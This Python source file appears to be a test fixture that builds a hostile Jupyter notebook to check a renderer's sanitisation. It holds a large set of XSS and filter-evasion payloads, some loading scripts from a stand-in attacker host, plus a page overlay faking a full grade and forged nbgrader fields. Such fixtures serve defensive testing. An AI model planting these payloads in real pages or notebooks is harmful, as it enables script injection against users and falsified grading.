"""What a hostile notebook may hold. A piece that ran would set `window.owned`; one that loaded would ask ATTACKER."""

import base64

from nbformat import from_dict

ATTACKER = "http://attacker.invalid"
RUN = "window.owned=(window.owned||0)+1"
SVG = f'<svg xmlns="http://www.w3.org/2000/svg" onload="{RUN}"><script>{RUN}</script><image href="{ATTACKER}/i"/></svg>'

HTML = {
    "script": f"<script>{RUN}</script>",
    "script from elsewhere": f'<script src="{ATTACKER}/a.js"></script>',
    "script in capitals": f"<ScRiPt >{RUN}</sCrIpT\n>",
    "script inside script": f"<scr<script>ipt>{RUN}</scr</script>ipt>",
    "image error": f'<img src="x:" onerror="{RUN}">',
    "image error unquoted": f"<img src=x: onerror={RUN}>",
    "image error with slashes": f"<img/src=x:/onerror={RUN}>",
    "image elsewhere": f'<img src="{ATTACKER}/i.png">',
    "image set": f'<img srcset="{ATTACKER}/i.png 2x">',
    "image of a relative address": '<img src="../../api/contents">',
    "svg": SVG,
    "svg animation": f'<svg><a><animate attributeName=href values="javascript:{RUN}"/><text y=20>x</text></a></svg>',
    "math": f'<math><mtext><table><mglyph><style><img src=x: onerror="{RUN}"></style></mglyph></table></mtext></math>',
    "iframe": f'<iframe src="javascript:parent.{RUN}"></iframe>',
    "iframe with a document": f'<iframe srcdoc="&lt;script&gt;parent.{RUN}&lt;/script&gt;"></iframe>',
    "object": f'<object data="{ATTACKER}/o"></object><embed src="{ATTACKER}/e">',
    "link to a style": f'<link rel="stylesheet" href="{ATTACKER}/s.css">',
    "style": f"<style>@import '{ATTACKER}/s.css'; body {{ background: url({ATTACKER}/b) }}</style>",
    "style attribute": f'<p style="background:url({ATTACKER}/b)">x</p>',
    "style attribute escaped": f'<p style="background:u\\72l({ATTACKER}/b)">x</p>',
    "style with an entity": f'<p style="color:red;background&#58;url({ATTACKER}/b)">x</p>',
    "base": f'<base href="{ATTACKER}/">',
    "meta refresh": f'<meta http-equiv="refresh" content="0;url={ATTACKER}/m">',
    "form": f'<form action="{ATTACKER}/f"><input autofocus onfocus="{RUN}"><button>x</button></form>',
    "javascript link": f'<a href="javascript:{RUN}">x</a>',
    "javascript link with a tab": f'<a href="java&#09;script:{RUN}">x</a>',
    "data link": f'<a href="data:text/html,<script>{RUN}</script>">x</a>',
    "details": f'<details open ontoggle="{RUN}"><summary>x</summary></details>',
    "video": f'<video><source onerror="{RUN}"></video><audio src="{ATTACKER}/a" autoplay></audio>',
    "body": f'<body onload="{RUN}" background="{ATTACKER}/b">',
    "closing tags": f"</div></div></section></main></body></html><script>{RUN}</script>",
    "closing the text": f"</pre></code></textarea></title></style></script><script>{RUN}</script>",
    "comment": f"<!--><script>{RUN}</script>-->",
    "conditional comment": f'<!--[if gte IE 4]><img src=x: onerror="{RUN}"><![endif]-->',
    "noscript": f'<noscript><p title="</noscript><img src=x: onerror={RUN}>"></noscript>',
    "attribute that closes": f'<p title="x" "><img src=x: onerror={RUN}>">x</p>',
    "mouse": f'<p onmouseover="{RUN}" onclick="{RUN}" tabindex=1 onfocus="{RUN}">x</p>',
    "template": f"<template><script>{RUN}</script></template><xmp><img src=x: onerror={RUN}></xmp>",
    "a tag cut off": f"<img src=x: onerror={RUN} ",
    "backticks": f"<img src=`x:` onerror=`{RUN}`>",
    "null": f"<scr\0ipt>{RUN}</script>",
    "cover the page": '<div style="position:fixed;inset:0;z-index:9999;background:white">6 of 6 points</div>',
}
MARKDOWN = {
    "javascript link": f"[x](javascript:{RUN})",
    "javascript link escaped": f"[x](java&#115;cript:{RUN})",
    "reference link": f"[x][1]\n\n[1]: javascript:{RUN}",
    "automatic link": f"<javascript:{RUN}>",
    "data link": f"[x](data:text/html;base64,{base64.b64encode(f'<script>{RUN}</script>'.encode()).decode()})",
    "image elsewhere": f"![x]({ATTACKER}/i.png)",
    "image title": f'![x]({ATTACKER}/i.png "a" onerror="{RUN}")',
    "missing attachment": "![x](attachment:none.png)",
    "link in mathematics": rf"$\href{{javascript:{RUN}}}{{x}}$",
    "link in mathematics cut by a tag": rf"$\hr<b></b>ef{{javascript:{RUN}}}{{x}}$",
    "style in mathematics": rf"$\style{{background:url({ATTACKER}/b)}}{{x}}$ $\require{{{ATTACKER}/x}}$",
    "tags in mathematics": f"$$<img src=x: onerror={RUN}>$$",
    "mathematics in an attribute": f'![$<img src=x: onerror={RUN}>$](data:image/png;base64,AAAA "$y$")',
    "mathematics in an attribute of a tag": '<p title="$x^2$ onmouseover=1">x</p>',
    "mermaid": f'```mermaid\ngraph TD; A-->B; click A href "javascript:{RUN}"\n```',
    "mermaid that closes": f"```mermaid\n</pre><script>{RUN}</script>\n```",
    "code language": f'```"><script>{RUN}</script>\nx\n```',
    "heading as an id": '# written-2-w-comment\n\n<h1 id="written-2-w">x</h1>',
    "fence": f"```\n````\n</code></pre><script>{RUN}</script>\n```",
}


def hostile_notebook():
    """One notebook with every piece in every place that shows text, and with fields that no front end writes."""
    cells = [_code(f"# {name}\n{one}", [_display({"text/html": one})]) for name, one in HTML.items()]
    cells += [_markdown(one) for one in (*HTML.values(), *MARKDOWN.values())]
    cells += [_code("", [_display({"text/markdown": one})]) for one in (*HTML.values(), *MARKDOWN.values())]
    all_html = "\n".join(HTML.values())
    broken = f'1 onerror="{RUN}" x='
    cells += [
        _code(all_html, [{"output_type": "stream", "name": f'"><script>{RUN}</script>', "text": all_html}]),
        _code(
            "", [{"output_type": "error", "ename": all_html, "evalue": all_html, "traceback": ["\x1b[31m" + all_html]}]
        ),
        _code(
            "", [_display({"text/plain": all_html}), _display({"text/latex": f"${MARKDOWN['link in mathematics']}$"})]
        ),
        _code("", [_display({"text/latex": f"</div><script>{RUN}</script>"})]),
        _code("", [_display({"application/javascript": RUN}), _display({"text/javascript": RUN})]),
        _code("", [_display({"image/svg+xml": SVG}), _display({"application/pdf": "AAAA"})]),
        _code(
            "", [_display({"image/png": f'AAAA" onerror="{RUN}'}), _display({"image/jpeg": ["AA", f'"><script>{RUN}']})]
        ),
        _code("", [_display({"image/png": "AAAA"}, {"image/png": {"width": broken, "height": broken}})]),
        _code("", [_display({"image/png": "AAAA"}, {"filenames": {"image/png": f"{ATTACKER}/i.png"}})]),
        _code("", [_display({"text/html": HTML["script"]}, {"text/html": {"isolated": True}})]),
        _code("", [_display({"text/vnd.mermaid": f"graph TD; A[<img src=x: onerror={RUN}>]"})]),
        _code(
            "",
            [_display({"application/vnd.jupyter.widget-view+json": {"model_id": f"</script><script>{RUN}</script>"}})],
        ),
        _code("", [_display({f"</script><script>{RUN}</script>": "x"})]),
        _code(
            "",
            [
                {
                    "output_type": "execute_result",
                    "data": {"text/plain": "x"},
                    "metadata": {},
                    "execution_count": all_html,
                }
            ],
        ),
        _code("", ["no output", {"output_type": "odd"}, {"output_type": "display_data", "data": 7, "metadata": 7}]),
        {
            "cell_type": "raw",
            "source": all_html + MARKDOWN["link in mathematics"],
            "metadata": {"raw_mimetype": "text/html"},
        },
        _markdown("![x](attachment:a.svg) ![x](attachment:b.png)")
        | {
            "attachments": {
                "a.svg": {"image/svg+xml": base64.b64encode(SVG.encode()).decode()},
                "b.png": {f'text/html"><script>{RUN}</script>': "AAAA", "image/png": f'"><script>{RUN}</script>'},
            }
        },
        {"cell_type": "heading", "source": all_html, "metadata": {}},
        {"cell_type": "code", "source": {"not": "text"}, "metadata": 7, "outputs": None, "execution_count": all_html},
        _code("x", [])
        | {"metadata": {"tags": [f'"><script>{RUN}</script>'], "magics_language": "html", "alt": broken}},
        _code("x", []) | {"metadata": {"nbgrader": _graded(f'x"><script>{RUN}</script>')}},
        _code("x", []) | {"metadata": {"nbgrader": _graded("check-2-1") | {"points": f"<script>{RUN}</script>"}}},
    ]
    for place, cell in enumerate(cells):
        cell["id"] = f'c"><script>{RUN}</script>' if place % 2 else "same"
    widgets = {"application/vnd.jupyter.widget-state+json": {"state": f"</script><script>{RUN}</script>"}}
    info = {"name": f'"><script>{RUN}</script>', "pygments_lexer": "html", "codemirror_mode": all_html}
    metadata = {"widgets": widgets, "language_info": info, "kernelspec": {"name": all_html}, "title": all_html}
    return from_dict({"nbformat": 4, "nbformat_minor": 5, "metadata": metadata, "cells": cells})


def _code(source, outputs):
    return {"cell_type": "code", "source": source, "metadata": {}, "outputs": outputs, "execution_count": 1}


def _markdown(source):
    return {"cell_type": "markdown", "source": source, "metadata": {}}


def _display(data, metadata=None):
    return {"output_type": "display_data", "data": data, "metadata": metadata or {}}


def _graded(name):
    flags = {"grade": True, "solution": False, "locked": True, "task": False, "schema_version": 3, "cell_type": "code"}
    return flags | {"grade_id": name, "points": 6, "checksum": "0"}
